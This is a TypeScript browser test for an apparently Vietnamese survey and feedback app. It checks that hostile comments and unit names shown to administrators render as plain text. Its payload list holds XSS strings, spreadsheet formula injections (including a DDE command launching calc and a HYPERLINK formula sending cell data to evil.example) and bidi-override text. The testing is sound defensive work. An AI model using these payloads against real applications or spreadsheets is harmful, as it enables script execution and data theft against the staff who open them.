/**
 * Hostile text in Debian's chromium: citizens' comments and free-text
 * answers carrying script, event handlers, javascript: links, spreadsheet
 * formulas and bidi overrides, and unit, service and survey point names
 * doing the same, are stored; an administrator opens the comments page, the
 * dashboards, the province table and the audit log. Nothing may run (no
 * dialog, no CSP violation reported, no injected element) and every text
 * must read literally. The formula payloads are here for the exports to come.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Browser, Page } from 'playwright-core'
import type { Answers } from '../../server/domain/survey-types.ts'
import { recordResponses } from '../../server/store/record-responses.ts'
import { responseRecord } from '../support/response-record.ts'
import { launchBrowser, outputPath } from '../support/browser.ts'
import { ADMIN_PASSWORD, startServer, type TestServer } from '../support/start-server.ts'

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'><iframe src=javascript:alert(1)></iframe>",
  'javascript:alert(1)',
  '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")',
  "+cmd|'/c calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  'Tốt lắm \u202Egnp.exe\u202C cảm ơn \u2066<b>đậm</b>\u2069',
]
const UNIT = 'Xã <script>alert("unit")</script>'
const STATION = 'Trạm <img src=x onerror=alert("station")>'
const SERVICE = '"><svg onload=alert("service")>'
const LABEL = "Quầy '><img src=x onerror=alert(2)>"

let srv: TestServer
let browser: Browser
const ids = { p: 0, a: 0, h: 0 }
const day = (offset: number) => new Date(Date.now() + 7 * 3600_000 + offset * 86_400_000).toISOString().slice(0, 10)

async function api(path: string, body: unknown, cookie: string) {
  const res = await fetch(srv.url + path, { method: 'POST', headers: { 'content-type': 'application/json', cookie }, body: JSON.stringify(body) })
  if (res.status !== 201) throw new Error(`${path}: ${res.status} ${await res.text()}`)
  return res.json()
}

/** Past-day responses through the store's write path (today's comments are held back from staff). */
async function store(tp: { id: number; unit: number; service: number | null; survey: string }, rows: { answers: Answers; comment: string | null }[]) {
  await srv.hl.store.db.transaction().execute((trx) =>
    recordResponses(
      trx,
      { dialect: srv.hl.store.dialect, surveys: srv.hl.surveys },
      rows.map((r, i) => responseRecord(tp, day(-1 - (i % 3)), r.answers, { comment: r.comment, surveyVersion: srv.hl.surveys.get(tp.survey)!.version })),
    ),
  )
}

beforeAll(async () => {
  srv = await startServer()
  const admin = await srv.login()
  ids.p = (await api('/api/v1/units', { name: 'Tỉnh Thử', type: 'province' }, admin)).id
  ids.a = (await api('/api/v1/units', { name: UNIT, type: 'commune', sector: 'administrative', parent: ids.p }, admin)).id
  ids.h = (await api('/api/v1/units', { name: STATION, type: 'health-station', sector: 'health', parent: ids.a }, admin)).id
  const service = (await api('/api/v1/services', { name: SERVICE, sector: 'administrative' }, admin)).id
  const counter = await api('/api/v1/touchpoints', { unit: ids.a, survey: 'counter-rating', service, label: LABEL }, admin)
  const clinic = await api('/api/v1/touchpoints', { unit: ids.h, survey: 'health-outpatient', label: LABEL }, admin)
  await store(
    { id: counter.id, unit: ids.a, service, survey: 'counter-rating' },
    PAYLOADS.map((comment, i) => ({ answers: { overall: i % 3 }, comment })),
  )
  await store(
    { id: clinic.id, unit: ids.h, service: null, survey: 'health-outpatient' },
    PAYLOADS.map((text, i) => ({ answers: { H1: text, H2: PAYLOADS[(i + 1) % PAYLOADS.length]! }, comment: null })),
  )
  browser = await launchBrowser()
})

afterAll(async () => {
  await browser?.close()
  await srv?.close()
})

/** Everything that would show that something ran: dialogs, console errors (CSP violations land there), page errors. */
function watch(page: Page): string[] {
  const problems: string[] = []
  page.on('dialog', (d) => {
    problems.push(`dialog: ${d.message()}`)
    void d.dismiss()
  })
  page.on('console', (m) => {
    // The browser's own favicon request is no page's doing.
    if (m.location().url.endsWith('/favicon.ico')) return
    if (m.type() === 'error' || m.type() === 'warning') problems.push(`${m.type()}: ${m.text()}`)
  })
  page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`))
  page.on('response', (r) => {
    if (r.status() >= 400 && !r.url().endsWith('/favicon.ico')) problems.push(`${r.status()}: ${r.url()}`)
  })
  return problems
}

/** Elements a successful injection would have added. */
const injected = (page: Page) =>
  page.evaluate(() => ({
    inlineScripts: [...document.querySelectorAll('script:not([src])')].filter((s) => s.getAttribute('type') !== 'application/json').length,
    handlers: [...document.querySelectorAll('*')].filter((el) => [...el.attributes].some((a) => a.name.startsWith('on'))).length,
    imgX: document.querySelectorAll('img[src="x"]').length,
    iframes: document.querySelectorAll('iframe').length,
    jsLinks: document.querySelectorAll('a[href^="javascript:" i]').length,
  }))

const CLEAN = { inlineScripts: 0, handlers: 0, imgX: 0, iframes: 0, jsLinks: 0 }

describe('hostile text shown to an administrator', () => {
  it('runs nothing and reads literally on every page that shows it', async () => {
    const ctx = await browser.newContext({ locale: 'vi-VN' })
    const page = await ctx.newPage()
    const problems = watch(page)
    await page.goto(`${srv.url}/login`)
    await page.fill('#username', 'admin')
    await page.fill('#password', ADMIN_PASSWORD)
    await Promise.all([page.waitForURL(/\/dashboard/), page.click('form.login button[type=submit]')])

    const range = `from=${day(-30)}&to=${day(0)}`
    await page.goto(`${srv.url}/comments?unit=${ids.p}&${range}&limit=200`)
    const quotes = await page.locator('blockquote').allTextContents()
    // Every payload as a comment and as both free-text answers: three times each, character for character.
    for (const p of PAYLOADS) expect(quotes.filter((q) => q === p).length, p).toBe(3)
    const meta = await page.locator('.comment .meta').allTextContents()
    expect(meta.some((m) => m.includes(UNIT) && m.includes(SERVICE) && m.includes(LABEL))).toBe(true)
    expect(await injected(page)).toEqual(CLEAN)
    await page.screenshot({ path: outputPath('hostile-comments.png'), fullPage: true })

    for (const path of [`/dashboard?unit=${ids.a}&${range}`, `/dashboard?unit=${ids.h}&${range}`, `/province?unit=${ids.p}&${range}`, `/reports/units/${ids.p}?${range}`, '/admin/audit', `/admin/units/${ids.a}`, '/admin/services', `/admin/touchpoints?unit=${ids.a}`]) {
      const res = await page.goto(srv.url + path)
      expect(res!.status(), path).toBe(200)
      expect(await injected(page), path).toEqual(CLEAN)
      const text = await page.locator('body').innerText()
      if (path.startsWith('/dashboard?unit=' + ids.a)) expect(text).toContain(UNIT)
      if (path.startsWith('/province')) expect(text).toContain(STATION)
    }
    expect(problems).toEqual([])
    await ctx.close()
  })
})
